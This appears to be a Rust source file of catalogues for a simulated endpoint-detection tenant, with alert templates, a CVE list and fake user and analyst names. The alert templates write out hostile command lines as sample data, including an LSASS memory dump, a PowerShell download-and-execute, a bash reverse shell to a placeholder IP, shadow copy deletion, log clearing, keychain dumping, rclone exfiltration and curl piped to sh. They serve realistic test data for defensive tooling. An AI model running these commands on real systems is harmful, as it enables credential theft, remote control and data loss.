//! Static catalogues the tenant is generated from: detection templates, CVEs, names.

/// A detection template alerts are generated from.
pub(crate) struct Detection {
    pub name: &'static str,
    pub description: &'static str,
    pub platform: &'static str,
    pub tactic: &'static str,
    pub tactic_id: &'static str,
    pub technique: &'static str,
    pub technique_id: &'static str,
    pub objective: &'static str,
    pub scenario: &'static str,
    pub filename: &'static str,
    pub filepath: &'static str,
    pub cmdline: &'static str,
    pub parent: &'static str,
    pub parent_cmdline: &'static str,
    pub severity: (u32, u32),
    pub pattern_id: u32,
    /// Uses the well-known bad hash for some alerts.
    pub known_hash: bool,
    /// Connects to the well-known bad IP.
    pub known_ip: bool,
    /// Prevented (process killed) rather than detect-only.
    pub prevented: bool,
}

macro_rules! det {
    ($name:expr, $desc:expr, $plat:expr, $tac:expr, $tacid:expr, $tech:expr, $techid:expr, $obj:expr,
     $scen:expr, $file:expr, $path:expr, $cmd:expr, $par:expr, $parcmd:expr, $sev:expr, $pid:expr,
     $kh:expr, $ki:expr, $prev:expr) => {
        Detection {
            name: $name, description: $desc, platform: $plat, tactic: $tac, tactic_id: $tacid,
            technique: $tech, technique_id: $techid, objective: $obj, scenario: $scen, filename: $file,
            filepath: $path, cmdline: $cmd, parent: $par, parent_cmdline: $parcmd, severity: $sev,
            pattern_id: $pid, known_hash: $kh, known_ip: $ki, prevented: $prev,
        }
    };
}

/// Detection templates; `{ip}`, `{domain}`, `{user}` are substituted.
pub(crate) const DETECTIONS: &[Detection] = &[
    det!("CredentialDumpingViaLsass", "A process accessed LSASS memory in a way consistent with credential theft.", "Windows",
         "Credential Access", "TA0006", "OS Credential Dumping", "T1003", "Gain Access", "credential_theft",
         "rundll32.exe", "\\Device\\HarddiskVolume4\\Windows\\System32\\rundll32.exe",
         "rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 624 C:\\temp\\l.dmp full",
         "cmd.exe", "cmd.exe /c rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 624 C:\\temp\\l.dmp full", (80, 95), 51234, false, false, false),
    det!("SensorMLDetection", "A file written to disk meets the on-sensor machine learning high confidence threshold for malicious files.", "Windows",
         "Machine Learning", "CSTA0004", "Sensor-based ML", "CST0007", "Falcon Detection Method", "NGAV",
         "invoice.exe", "\\Device\\HarddiskVolume4\\Users\\{user}\\Downloads\\invoice.exe",
         "\"C:\\Users\\{user}\\Downloads\\invoice.exe\"", "explorer.exe", "C:\\Windows\\Explorer.EXE", (50, 75), 10304, true, false, true),
    det!("MaliciousPowerShellDownload", "PowerShell downloaded and executed a remote payload using an encoded command.", "Windows",
         "Execution", "TA0002", "Command and Scripting Interpreter", "T1059", "Follow Through", "suspicious_activity",
         "powershell.exe", "\\Device\\HarddiskVolume4\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{domain}/a.ps1')\"",
         "winword.exe", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\Downloads\\Q3-report.docm\"", (60, 80), 50102, false, false, false),
    det!("OfficeMacroSpawnedShell", "An Office application launched a command shell, which often indicates a malicious macro.", "Windows",
         "Initial Access", "TA0001", "Phishing", "T1566", "Gain Access", "attacker_methodology",
         "cmd.exe", "\\Device\\HarddiskVolume4\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all > %TEMP%\\w.txt",
         "excel.exe", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"C:\\Users\\{user}\\Downloads\\invoice_0423.xlsm\"", (60, 75), 50007, false, false, false),
    det!("ShadowCopyDeletion", "A process deleted volume shadow copies, a common ransomware step to prevent recovery.", "Windows",
         "Impact", "TA0040", "Inhibit System Recovery", "T1490", "Follow Through", "ransomware",
         "vssadmin.exe", "\\Device\\HarddiskVolume4\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
         "cmd.exe", "cmd.exe /c vssadmin.exe delete shadows /all /quiet", (90, 100), 10166, false, false, true),
    det!("SuspiciousScheduledTask", "A scheduled task was created that runs a script from a user-writable directory.", "Windows",
         "Persistence", "TA0003", "Scheduled Task/Job", "T1053", "Keep Access", "suspicious_activity",
         "schtasks.exe", "\\Device\\HarddiskVolume4\\Windows\\System32\\schtasks.exe",
         "schtasks.exe /create /tn \"OneDrive Sync\" /tr \"C:\\Users\\Public\\sync.bat\" /sc onlogon /ru SYSTEM",
         "powershell.exe", "powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\Public\\setup.ps1", (40, 60), 50210, false, false, false),
    det!("PsExecLateralMovement", "A remote service was installed and executed over SMB, consistent with lateral movement using PsExec.", "Windows",
         "Lateral Movement", "TA0008", "Remote Services", "T1021", "Explore", "lateral_movement",
         "PSEXESVC.exe", "\\Device\\HarddiskVolume4\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
         "services.exe", "C:\\Windows\\system32\\services.exe", (60, 80), 50301, false, false, false),
    det!("DomainAdminGroupDiscovery", "A process enumerated privileged domain groups.", "Windows",
         "Discovery", "TA0007", "Account Discovery", "T1087", "Explore", "attacker_methodology",
         "net.exe", "\\Device\\HarddiskVolume4\\Windows\\System32\\net.exe", "net group \"domain admins\" /domain",
         "cmd.exe", "cmd.exe", (20, 40), 50402, false, false, false),
    det!("CobaltStrikeBeacon", "A process made network connections consistent with a Cobalt Strike beacon to a known-bad address.", "Windows",
         "Command and Control", "TA0011", "Application Layer Protocol", "T1071", "Contact Controlled Systems", "known_malware",
         "rundll32.exe", "\\Device\\HarddiskVolume4\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\ProgramData\\svc.dll,StartW",
         "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", (85, 95), 50500, true, true, false),
    det!("CustomIOCHashBlocked", "A process matching a custom IOC hash with a prevent action was blocked.", "Windows",
         "Falcon Intel", "CSTA0001", "Intelligence Indicator - Hash", "CST0001", "Falcon Detection Method", "intel_detection",
         "invoice.exe", "\\Device\\HarddiskVolume4\\Users\\{user}\\Downloads\\invoice.exe", "\"C:\\Users\\{user}\\Downloads\\invoice.exe\" /silent",
         "explorer.exe", "C:\\Windows\\Explorer.EXE", (70, 90), 10150, true, false, true),
    det!("UACBypassEventViewer", "An auto-elevating binary launched an unexpected child, consistent with a UAC bypass.", "Windows",
         "Privilege Escalation", "TA0004", "Abuse Elevation Control Mechanism", "T1548", "Gain Access", "privilege_escalation",
         "cmd.exe", "\\Device\\HarddiskVolume4\\Windows\\System32\\cmd.exe", "cmd.exe /c start C:\\Users\\Public\\p.exe",
         "eventvwr.exe", "C:\\Windows\\system32\\eventvwr.exe", (50, 70), 50610, false, false, false),
    det!("SecurityLogCleared", "The Security event log was cleared.", "Windows",
         "Defense Evasion", "TA0005", "Indicator Removal", "T1070", "Keep Access", "defense_evasion",
         "wevtutil.exe", "\\Device\\HarddiskVolume4\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security",
         "cmd.exe", "cmd.exe /c wevtutil.exe cl Security", (60, 75), 50711, false, false, false),
    det!("RcloneExfiltration", "Rclone copied data to a cloud storage service.", "Windows",
         "Exfiltration", "TA0010", "Exfiltration Over Web Service", "T1567", "Follow Through", "data_exfiltration",
         "rclone.exe", "\\Device\\HarddiskVolume4\\Users\\Public\\rclone.exe", "rclone.exe copy \\\\fs01\\finance remote:backup --transfers 16",
         "cmd.exe", "cmd.exe", (70, 85), 50804, false, true, false),
    det!("LaunchAgentPersistence", "A launch agent was written and loaded from a hidden location.", "Mac",
         "Persistence", "TA0003", "Create or Modify System Process", "T1543", "Keep Access", "suspicious_activity",
         "launchctl", "/bin/launchctl", "launchctl load -w /Users/{user}/Library/LaunchAgents/com.apple.updates.plist",
         "bash", "/bin/bash /tmp/.i.sh", (50, 70), 60101, false, false, false),
    det!("KeychainDump", "A process dumped the user's keychain.", "Mac",
         "Credential Access", "TA0006", "Credentials from Password Stores", "T1555", "Gain Access", "credential_theft",
         "security", "/usr/bin/security", "security dump-keychain -d /Users/{user}/Library/Keychains/login.keychain-db",
         "zsh", "/bin/zsh", (60, 80), 60202, false, false, false),
    det!("ReverseShell", "A shell was started with its input and output redirected to a remote address.", "Linux",
         "Execution", "TA0002", "Command and Scripting Interpreter", "T1059", "Follow Through", "suspicious_activity",
         "bash", "/usr/bin/bash", "bash -i >& /dev/tcp/{ip}/4444 0>&1",
         "php-fpm", "php-fpm: pool www", (80, 95), 70101, false, true, false),
    det!("CryptoMiner", "A cryptocurrency miner was executed.", "Linux",
         "Impact", "TA0040", "Resource Hijacking", "T1496", "Follow Through", "cryptomining",
         "xmrig", "/tmp/.x/xmrig", "/tmp/.x/xmrig --donate-level 1 -o pool.{domain}:443 -B",
         "sh", "sh -c /tmp/.x/xmrig", (60, 80), 70202, true, false, true),
    det!("CurlPipeToShell", "A script downloaded with curl was piped directly into a shell.", "Linux",
         "Execution", "TA0002", "Command and Scripting Interpreter", "T1059", "Follow Through", "suspicious_activity",
         "curl", "/usr/bin/curl", "curl -fsSL http://{domain}/i.sh", "bash", "bash -c curl -fsSL http://{domain}/i.sh | sh", (60, 75), 70303, false, false, false),
];

/// A CVE catalogue entry for Spotlight.
pub(crate) struct Cve {
    pub id: &'static str,
    pub platform: &'static str,
    pub product: &'static str,
    pub description: &'static str,
    pub base_score: f64,
    pub severity: &'static str,
    pub exprt: &'static str,
    pub exploit_status: u32,
    pub remediation: &'static str,
}

/// CVEs used for Spotlight findings (`"*"` platform = any).
pub(crate) const CVES: &[Cve] = &[
    Cve { id: "CVE-2024-21412", platform: "Windows", product: "Windows 10", description: "Internet Shortcut Files security feature bypass.", base_score: 8.1, severity: "HIGH", exprt: "CRITICAL", exploit_status: 90, remediation: "KB5034763" },
    Cve { id: "CVE-2024-21351", platform: "Windows", product: "Windows SmartScreen", description: "Windows SmartScreen security feature bypass.", base_score: 7.6, severity: "HIGH", exprt: "HIGH", exploit_status: 90, remediation: "KB5034765" },
    Cve { id: "CVE-2023-36884", platform: "Windows", product: "Microsoft Office 2019", description: "Office and Windows HTML remote code execution.", base_score: 8.8, severity: "HIGH", exprt: "CRITICAL", exploit_status: 90, remediation: "KB5028407" },
    Cve { id: "CVE-2024-38063", platform: "Windows", product: "Windows TCP/IP", description: "Windows TCP/IP remote code execution via IPv6 packets.", base_score: 9.8, severity: "CRITICAL", exprt: "HIGH", exploit_status: 30, remediation: "KB5041580" },
    Cve { id: "CVE-2024-30088", platform: "Windows", product: "Windows Kernel", description: "Windows kernel elevation of privilege.", base_score: 7.0, severity: "HIGH", exprt: "MEDIUM", exploit_status: 60, remediation: "KB5039212" },
    Cve { id: "CVE-2023-4863", platform: "*", product: "Google Chrome 116.0.5845.96", description: "Heap buffer overflow in libwebp.", base_score: 8.8, severity: "HIGH", exprt: "CRITICAL", exploit_status: 90, remediation: "Update Google Chrome to 116.0.5845.187 or later" },
    Cve { id: "CVE-2024-4671", platform: "*", product: "Google Chrome 124.0.6367.155", description: "Use after free in Visuals.", base_score: 9.6, severity: "CRITICAL", exprt: "HIGH", exploit_status: 90, remediation: "Update Google Chrome to 124.0.6367.201 or later" },
    Cve { id: "CVE-2023-44487", platform: "*", product: "nginx 1.24.0", description: "HTTP/2 rapid reset denial of service.", base_score: 7.5, severity: "HIGH", exprt: "MEDIUM", exploit_status: 60, remediation: "Update nginx to 1.25.3 or later" },
    Cve { id: "CVE-2024-6387", platform: "Linux", product: "OpenSSH 8.9p1", description: "Signal handler race condition in sshd (regreSSHion).", base_score: 8.1, severity: "HIGH", exprt: "HIGH", exploit_status: 30, remediation: "Update openssh-server to 9.8p1 or later" },
    Cve { id: "CVE-2024-3094", platform: "Linux", product: "xz-utils 5.6.0", description: "Malicious code in xz/liblzma upstream tarballs.", base_score: 10.0, severity: "CRITICAL", exprt: "CRITICAL", exploit_status: 60, remediation: "Downgrade xz-utils to 5.4.6" },
    Cve { id: "CVE-2023-4911", platform: "Linux", product: "glibc 2.35", description: "Buffer overflow in the dynamic loader (Looney Tunables).", base_score: 7.8, severity: "HIGH", exprt: "HIGH", exploit_status: 90, remediation: "Update glibc to 2.35-0ubuntu3.4 or later" },
    Cve { id: "CVE-2022-0847", platform: "Linux", product: "Linux Kernel 5.15", description: "Dirty Pipe privilege escalation.", base_score: 7.8, severity: "HIGH", exprt: "HIGH", exploit_status: 90, remediation: "Update the kernel to 5.16.11 or later" },
    Cve { id: "CVE-2024-27198", platform: "Linux", product: "JetBrains TeamCity 2023.11.3", description: "Authentication bypass in TeamCity.", base_score: 9.8, severity: "CRITICAL", exprt: "CRITICAL", exploit_status: 90, remediation: "Update TeamCity to 2023.11.4" },
    Cve { id: "CVE-2024-44133", platform: "Mac", product: "macOS Sonoma 14.5", description: "Safari TCC bypass (HM Surf).", base_score: 5.5, severity: "MEDIUM", exprt: "LOW", exploit_status: 0, remediation: "Update macOS to 15.0" },
    Cve { id: "CVE-2023-41990", platform: "Mac", product: "macOS Ventura 13.4", description: "FontParser code execution (Operation Triangulation).", base_score: 7.8, severity: "HIGH", exprt: "HIGH", exploit_status: 90, remediation: "Update macOS to 13.5" },
    Cve { id: "CVE-2024-23222", platform: "Mac", product: "Safari 17.2", description: "WebKit type confusion leading to code execution.", base_score: 8.8, severity: "HIGH", exprt: "HIGH", exploit_status: 90, remediation: "Update Safari to 17.3" },
    Cve { id: "CVE-2023-38545", platform: "*", product: "curl 8.3.0", description: "SOCKS5 heap buffer overflow in curl.", base_score: 9.8, severity: "CRITICAL", exprt: "MEDIUM", exploit_status: 30, remediation: "Update curl to 8.4.0" },
    Cve { id: "CVE-2021-44228", platform: "*", product: "Apache Log4j 2.14.1", description: "Log4Shell JNDI remote code execution.", base_score: 10.0, severity: "CRITICAL", exprt: "CRITICAL", exploit_status: 90, remediation: "Update log4j-core to 2.17.1 or later" },
    Cve { id: "CVE-2023-24932", platform: "Windows", product: "Windows Secure Boot", description: "Secure Boot security feature bypass (BlackLotus).", base_score: 6.7, severity: "MEDIUM", exprt: "MEDIUM", exploit_status: 60, remediation: "KB5025885" },
    Cve { id: "CVE-2024-20666", platform: "Windows", product: "BitLocker", description: "BitLocker security feature bypass.", base_score: 6.6, severity: "MEDIUM", exprt: "LOW", exploit_status: 0, remediation: "KB5034441" },
    Cve { id: "CVE-2023-29357", platform: "Windows", product: "SharePoint Server 2019", description: "SharePoint elevation of privilege.", base_score: 9.8, severity: "CRITICAL", exprt: "HIGH", exploit_status: 60, remediation: "KB5002402" },
    Cve { id: "CVE-2022-3602", platform: "*", product: "OpenSSL 3.0.5", description: "X.509 email address buffer overflow.", base_score: 7.5, severity: "HIGH", exprt: "LOW", exploit_status: 0, remediation: "Update OpenSSL to 3.0.7" },
    Cve { id: "CVE-2024-0001", platform: "*", product: "7-Zip 23.01", description: "Informational finding: outdated 7-Zip build.", base_score: 2.1, severity: "LOW", exprt: "UNKNOWN", exploit_status: 0, remediation: "Update 7-Zip to 24.07" },
];

/// First names for generated users.
pub(crate) const FIRST: &[&str] = &[
    "james", "mary", "robert", "patricia", "john", "jennifer", "michael", "linda", "david", "elizabeth",
    "william", "barbara", "richard", "susan", "joseph", "jessica", "thomas", "sarah", "priya", "wei",
    "fatima", "diego", "yuki", "olga", "kwame", "ines", "lars", "amara", "raj", "chen",
];

/// Last names for generated users.
pub(crate) const LAST: &[&str] = &[
    "smith", "johnson", "williams", "brown", "jones", "garcia", "miller", "davis", "rodriguez", "martinez",
    "hernandez", "lopez", "gonzalez", "wilson", "anderson", "thomas", "taylor", "moore", "jackson", "martin",
    "lee", "perez", "thompson", "white", "harris", "sanchez", "clark", "ramirez", "lewis", "robinson",
];

/// Departments: (tag suffix, hostname code).
pub(crate) const DEPTS: &[(&str, &str)] = &[
    ("Finance", "FIN"), ("HR", "HR"), ("Engineering", "ENG"), ("Sales", "SAL"), ("Marketing", "MKT"),
    ("Operations", "OPS"), ("Legal", "LEG"), ("IT", "IT"), ("Research", "RND"), ("Executive", "EXE"),
    ("Design", "DES"),
];

/// Analysts alerts get assigned to: (uid/email, name).
pub(crate) const ANALYSTS: &[(&str, &str)] = &[
    ("alex.rivera@example.com", "Alex Rivera"),
    ("sam.okafor@example.com", "Sam Okafor"),
    ("jordan.kim@example.com", "Jordan Kim"),
    ("taylor.nguyen@example.com", "Taylor Nguyen"),
];
